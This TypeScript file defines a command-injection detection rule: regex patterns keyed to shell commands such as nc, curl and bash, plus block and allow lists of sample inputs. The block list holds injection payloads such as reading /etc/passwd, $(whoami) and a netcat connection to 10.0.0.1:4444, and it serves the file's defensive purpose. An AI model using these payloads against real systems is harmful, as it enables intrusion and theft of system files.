import type { FilterRule } from '../rule.js';

const CMD = '(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|rm|ping|nslookup|powershell|cmd|python3?|perl|ruby|sleep|echo|chmod|printenv|ifconfig|ipconfig)';

export const command: FilterRule = {
  id: 'command',
  title: 'command injection',
  patterns: [
    new RegExp(`(?:[;&|\\n]|\\$\\()\\s{0,20}${CMD}(?:\\.exe)?(?:\\s|$|[;&|\`)<>])`),
    new RegExp(`\`\\s{0,20}${CMD}\\b[^\`]{0,200}\``),
    /\$\{ifs\}|\$ifs\b|\/bin\/(?:ba|z|k|c|da)?sh\b/,
  ],
  block: ['; cat /etc/passwd', '| id', '&& whoami', '$(whoami)', '`id`', 'x; ls -la', 'a|nc 10.0.0.1 4444', 'cat${IFS}/etc/passwd', '; sleep 5', '127.0.0.1 & ping -c 1 example.com'],
  allow: ['Tom & Jerry', 'salt & pepper; cats and dogs', 'rock | pop | jazz', 'Q&A session', '$(document).ready is jQuery', 'the cat sat on the mat'],
};
